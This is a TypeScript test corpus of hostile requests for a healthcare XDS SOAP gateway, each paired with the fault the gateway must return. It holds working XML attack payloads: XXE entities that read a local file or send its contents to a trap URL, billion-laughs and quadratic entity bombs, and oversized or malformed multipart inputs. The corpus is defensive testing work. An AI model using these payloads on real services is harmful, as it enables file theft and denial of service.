import { NS, SOAP_ACTION } from '../../src/ebrim/uuids.js';
import { buildIti41Request, buildIti43Request, makeLabResult, mtomBody, newPatientId, soapContentType, soapEnvelope } from '../support/requests.js';

/** What the gateway must answer: a SOAP fault (code, HTTP status, reason naming the problem) or an XDS error, or acceptance. */
export type Expected =
  | { fault: 'Sender' | 'VersionMismatch'; subcode?: string; status: number; reason: RegExp }
  | { xdsError: string; context?: RegExp }
  | { accepted: true };

export interface HostileRequest {
  path: string;
  contentType: string;
  body: Buffer;
  headers?: Record<string, string>;
}

/** Where the requests may try to reach: a listener that must never receive a connection, and a file that must never be read. */
export interface Trap {
  url: string;
  file: string;
  secret: string;
  patientId: string;
}

export interface HostileCase {
  name: string;
  make(trap: Trap): HostileRequest;
  expect: Expected;
}

const MB = 1024 * 1024;
const ITI41 = SOAP_ACTION.iti41;
const ITI43 = SOAP_ACTION.iti43;

const plain = (xml: string | Buffer, action: string = ITI41, path = '/xds/iti41'): HostileRequest => ({
  path,
  contentType: soapContentType(action),
  body: Buffer.isBuffer(xml) ? xml : Buffer.from(xml, 'utf8'),
});

/** A well-formed ITI-43 envelope whose body is replaced or prefixed, the cheapest carrier of hostile XML. */
const retrieveBody = (inner: string) => `<xdsb:RetrieveDocumentSetRequest xmlns:xdsb="${NS.xdsb}">${inner}</xdsb:RetrieveDocumentSetRequest>`;
const retrieve = (inner = '') => soapEnvelope(ITI43, retrieveBody(inner));
const withDoctype = (doctype: string, envelope: string) => envelope.replace('<?xml version="1.0" encoding="UTF-8"?>\n', `<?xml version="1.0" encoding="UTF-8"?>\n${doctype}\n`);

const laughs = (() => {
  let dtd = '<!ENTITY lol0 "lol">';
  for (let i = 1; i <= 10; i++) dtd += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
  return `<!DOCTYPE Envelope [${dtd}]>`;
})();

const valid41 = (patientId: string, mode: 'mtom' | 'inline' = 'mtom') =>
  buildIti41Request({ patientId, documents: [{ bytes: makeLabResult(patientId, { sizeKb: 2 }) }] }, mode);

/** Parts of a valid MTOM submission, to rebuild it with one thing wrong. */
function mtomParts(patientId: string) {
  const req = valid41(patientId);
  const boundary = /boundary="([^"]+)"/.exec(req.contentType)![1]!;
  return { req, boundary };
}

const fault = (reason: RegExp, status = 400): Expected => ({ fault: 'Sender', status, reason });

export const CORPUS: HostileCase[] = [
  {
    name: 'XXE: external general entity to a local file',
    make: (t) => plain(withDoctype(`<!DOCTYPE Envelope [<!ENTITY x SYSTEM "file://${t.file}">]>`, retrieve('<xdsb:DocumentRequest>&x;</xdsb:DocumentRequest>')), ITI43, '/xds/iti43'),
    expect: fault(/DOCTYPE/),
  },
  {
    name: 'XXE: external general entity over http',
    make: (t) => plain(withDoctype(`<!DOCTYPE Envelope [<!ENTITY x SYSTEM "${t.url}/general">]>`, retrieve('&x;')), ITI43, '/xds/iti43'),
    expect: fault(/DOCTYPE/),
  },
  {
    name: 'XXE: external parameter entity over http',
    make: (t) => plain(withDoctype(`<!DOCTYPE Envelope [<!ENTITY % p SYSTEM "${t.url}/parameter"> %p;]>`, retrieve()), ITI43, '/xds/iti43'),
    expect: fault(/DOCTYPE/),
  },
  {
    name: 'XXE: external parameter entity to a local file, exfiltration DTD',
    make: (t) =>
      plain(withDoctype(`<!DOCTYPE Envelope [<!ENTITY % f SYSTEM "file://${t.file}"><!ENTITY % d "<!ENTITY e SYSTEM '${t.url}/?%f;'>"> %d;]>`, retrieve('&e;')), ITI43, '/xds/iti43'),
    expect: fault(/DOCTYPE/),
  },
  {
    name: 'XXE: external DTD by public identifier',
    make: (t) => plain(withDoctype(`<!DOCTYPE Envelope PUBLIC "-//X//Y" "${t.url}/dtd">`, retrieve()), ITI43, '/xds/iti43'),
    expect: fault(/DOCTYPE/),
  },
  { name: 'billion laughs', make: () => plain(withDoctype(laughs, retrieve('&lol10;')), ITI43, '/xds/iti43'), expect: fault(/DOCTYPE/) },
  {
    name: 'quadratic blow-up (one 100 kB entity referenced 10,000 times)',
    make: () => plain(withDoctype(`<!DOCTYPE Envelope [<!ENTITY a "${'a'.repeat(100_000)}">]>`, retrieve('&a;'.repeat(10_000))), ITI43, '/xds/iti43'),
    expect: fault(/DOCTYPE/),
  },
  {
    name: 'undeclared entity references without a DOCTYPE',
    make: () => plain(retrieve('<xdsb:DocumentRequest>&a;&a;&a;</xdsb:DocumentRequest>'), ITI43, '/xds/iti43'),
    expect: fault(/entity/),
  },
  {
    name: 'DOCTYPE inside the SOAP Body',
    make: () => plain(retrieve('<!DOCTYPE x [<!ENTITY y "z">]><xdsb:DocumentRequest/>'), ITI43, '/xds/iti43'),
    expect: fault(/DOCTYPE/),
  },
  {
    name: 'DOCTYPE in lower case after the root element',
    make: () => plain(`${retrieve()}<!doctype x>`, ITI43, '/xds/iti43'),
    expect: fault(/DOCTYPE/),
  },
  {
    name: 'DOCTYPE in the XOP root part of an MTOM package',
    make: (t) => {
      const { req } = mtomParts(t.patientId);
      const body = Buffer.from(req.body.toString('latin1').replace('<?xml version="1.0" encoding="UTF-8"?>\n', `<?xml version="1.0" encoding="UTF-8"?>\n${laughs}\n`), 'latin1');
      return { path: '/xds/iti41', contentType: req.contentType, body };
    },
    expect: fault(/DOCTYPE/),
  },
  {
    name: 'elements nested 10,000 deep',
    make: () => plain(retrieve('<a>'.repeat(10_000) + '</a>'.repeat(10_000)), ITI43, '/xds/iti43'),
    expect: fault(/nesting deeper/),
  },
  {
    name: 'a 10 MB attribute value',
    make: () => plain(retrieve(`<xdsb:DocumentRequest big="${'A'.repeat(10 * MB)}"/>`), ITI43, '/xds/iti43'),
    expect: fault(/attribute .*longer than/),
  },
  {
    name: '100,000 attributes on one element',
    make: () => plain(retrieve(`<xdsb:DocumentRequest ${Array.from({ length: 100_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`), ITI43, '/xds/iti43'),
    expect: fault(/more than 256 attributes/),
  },
  {
    name: '100,000 sibling elements in a retrieve request',
    make: () => plain(retrieve('<xdsb:DocumentRequest/>'.repeat(100_000)), ITI43, '/xds/iti43'),
    expect: fault(/has more than/),
  },
  {
    name: 'a body over MAX_REQUEST_BYTES with Content-Length',
    make: () => plain(retrieve(`<!-- ${'x'.repeat(17 * MB)} -->`), ITI43, '/xds/iti43'),
    expect: fault(/exceeds the limit/, 413),
  },
  {
    name: 'an MTOM part over MAX_REQUEST_BYTES',
    make: (t) => {
      const env = soapEnvelope(ITI41, `<xdsb:ProvideAndRegisterDocumentSetRequest xmlns:xdsb="${NS.xdsb}"/>`);
      const m = mtomBody(env, [{ cid: `big@x`, mimeType: 'application/octet-stream', bytes: Buffer.alloc(17 * MB, 1) }], ITI41);
      void t;
      return { path: '/xds/iti41', contentType: m.contentType, body: m.body };
    },
    expect: fault(/exceeds the limit/, 413),
  },
  {
    name: 'a truncated multipart package',
    make: (t) => {
      const { req } = mtomParts(t.patientId);
      return { path: '/xds/iti41', contentType: req.contentType, body: req.body.subarray(0, Math.floor(req.body.length * 0.8)) };
    },
    expect: fault(/multipart|boundary|truncated|part/i),
  },
  {
    name: 'multipart/related without a boundary parameter',
    make: (t) => {
      const { req } = mtomParts(t.patientId);
      return { path: '/xds/iti41', contentType: req.contentType.replace(/; boundary="[^"]+"/, ''), body: req.body };
    },
    expect: fault(/boundary/),
  },
  {
    name: 'multipart/related with a boundary the body does not use',
    make: (t) => {
      const { req, boundary } = mtomParts(t.patientId);
      return { path: '/xds/iti41', contentType: req.contentType.replace(boundary, 'NotTheBoundary'), body: req.body };
    },
    expect: fault(/boundary|multipart|part/i),
  },
  {
    name: 'start parameter naming no part',
    make: (t) => {
      const { req } = mtomParts(t.patientId);
      return { path: '/xds/iti41', contentType: req.contentType.replace(/start="<[^>]+>"/, 'start="<nowhere@x>"'), body: req.body };
    },
    expect: fault(/start|root part/i),
  },
  {
    name: 'two parts with the same Content-ID',
    make: (t) => {
      const patientId = t.patientId;
      const env = soapEnvelope(ITI41, `<xdsb:ProvideAndRegisterDocumentSetRequest xmlns:xdsb="${NS.xdsb}"/>`);
      const bytes = makeLabResult(patientId, { sizeKb: 1 });
      const m = mtomBody(env, [{ cid: 'dup@x', mimeType: 'text/xml', bytes }, { cid: 'dup@x', mimeType: 'text/xml', bytes: Buffer.from('other') }], ITI41);
      return { path: '/xds/iti41', contentType: m.contentType, body: m.body };
    },
    expect: fault(/Content-ID|duplicate/i),
  },
  {
    name: 'xop:Include pointing to a missing part',
    make: (t) => {
      const { req } = mtomParts(t.patientId);
      const body = Buffer.from(req.body.toString('latin1').replace(/href="cid:[^"]+"/, 'href="cid:missing%40x"'), 'latin1');
      return { path: '/xds/iti41', contentType: req.contentType, body };
    },
    expect: fault(/missing|no part|xop/i),
  },
  {
    name: 'invalid base64 in an inline document',
    make: (t) => {
      const req = valid41(t.patientId, 'inline');
      const body = Buffer.from(req.body.toString('utf8').replace(/(<xdsb:Document id="[^"]+">)[^<]{8}/, '$1!!*@#$%^'), 'utf8');
      return { path: '/xds/iti41', contentType: req.contentType, body };
    },
    expect: fault(/base64/),
  },
  {
    name: 'bytes that are not UTF-8 in a UTF-8 envelope',
    make: () => plain(Buffer.concat([Buffer.from(retrieve().slice(0, 200), 'utf8'), Buffer.from([0xc3, 0x28, 0xff, 0xfe]), Buffer.from(retrieve().slice(200), 'utf8')]), ITI43, '/xds/iti43'),
    expect: fault(/UTF-8/),
  },
  {
    name: 'an envelope declared and encoded as ISO-8859-1',
    make: () => {
      const xml = retrieve('<!-- é -->').replace('encoding="UTF-8"', 'encoding="ISO-8859-1"');
      return { path: '/xds/iti43', contentType: soapContentType(ITI43).replace('UTF-8', 'ISO-8859-1'), body: Buffer.from(xml, 'latin1') };
    },
    expect: fault(/charset|encoding|UTF-8/i),
  },
  {
    name: 'a UTF-16 envelope with its byte order mark',
    make: () => {
      const xml = retrieve().replace('encoding="UTF-8"', 'encoding="UTF-16"');
      return { path: '/xds/iti43', contentType: soapContentType(ITI43).replace('UTF-8', 'UTF-16'), body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]) };
    },
    expect: fault(/charset|encoding|UTF-8/i),
  },
  {
    name: 'a UTF-8 envelope with a byte order mark (accepted)',
    make: (t) => {
      const req = valid41(t.patientId, 'inline');
      return { path: '/xds/iti41', contentType: req.contentType, body: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), req.body]) };
    },
    expect: { accepted: true },
  },
  {
    name: 'a SOAP 1.1 envelope',
    make: () =>
      plain(
        `<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>${retrieveBody('')}</s:Body></s:Envelope>`,
        ITI43,
        '/xds/iti43',
      ),
    expect: { fault: 'VersionMismatch', status: 500, reason: /SOAP 1\.1|version|namespace/i },
  },
  {
    name: 'no WS-Addressing Action header',
    make: () => plain(retrieve().replace(/<wsa:Action[^>]*>[^<]*<\/wsa:Action>/, ''), ITI43, '/xds/iti43'),
    expect: { fault: 'Sender', status: 400, reason: /Action/ },
  },
  {
    name: 'an Action this endpoint does not serve',
    make: () => plain(retrieve().replace(ITI43, 'urn:ihe:iti:2007:NoSuchTransaction'), ITI43, '/xds/iti43'),
    expect: { fault: 'Sender', subcode: 'ActionNotSupported', status: 400, reason: /NoSuchTransaction|not supported/ },
  },
  {
    name: 'an ITI-41 Action sent to the ITI-43 endpoint',
    make: (t) => ({ ...valid41(t.patientId, 'inline'), path: '/xds/iti43' }),
    expect: { fault: 'Sender', subcode: 'ActionNotSupported', status: 400, reason: /ProvideAndRegister|not supported/ },
  },
  {
    name: 'an HTTP header of 64 kB',
    make: () => ({ ...plain(retrieve(), ITI43, '/xds/iti43'), headers: { 'x-padding': 'p'.repeat(64 * 1024) } }),
    expect: fault(/header/i, 431),
  },
  {
    name: 'a retrieve asking for 10,000 documents of an unknown repository',
    make: () => plain(buildIti43Request(Array.from({ length: 10_000 }, (_, i) => ({ repositoryUniqueId: '1.2.3', documentUniqueId: `1.2.3.${i}` }))).body, ITI43, '/xds/iti43'),
    expect: fault(/has more than \d+ DocumentRequest/),
  },
  {
    name: 'a retrieve of a document of another repository',
    make: () => plain(buildIti43Request([{ repositoryUniqueId: '1.2.3', documentUniqueId: '1.2.3.4' }]).body, ITI43, '/xds/iti43'),
    expect: { xdsError: 'XDSUnknownRepositoryId' },
  },
];

export { newPatientId };
